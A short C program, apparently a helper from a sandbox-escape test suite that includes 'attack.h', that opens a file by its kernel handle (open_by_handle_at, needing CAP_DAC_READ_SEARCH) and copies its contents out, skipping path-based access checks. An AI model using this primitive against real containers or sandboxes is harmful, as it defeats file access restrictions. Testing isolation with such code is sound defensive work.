/* handle FILE TO: copies a file that is opened by its handle, without a path. Needs CAP_DAC_READ_SEARCH. */
#include "attack.h"

int main(int count, char **arguments)
{
	static union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} name;
	static char buffer[8 << 20], self[32];
	int mount, fd;

	if (count != 3)
		return 2;
	name.handle.handle_bytes = MAX_HANDLE_SZ;
	must(name_to_handle_at(AT_FDCWD, arguments[1], &name.handle, &mount, 0), "name_to_handle_at");
	/* Any descriptor on the same file system will do. */
	int beside = must(open(getenv("WORK"), O_RDONLY | O_DIRECTORY), "WORK");
	fd = must(open_by_handle_at(beside, &name.handle, O_RDONLY), "open_by_handle_at");
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	spill(arguments[2], buffer, slurp(self, buffer, sizeof(buffer)));
	return 0;
}
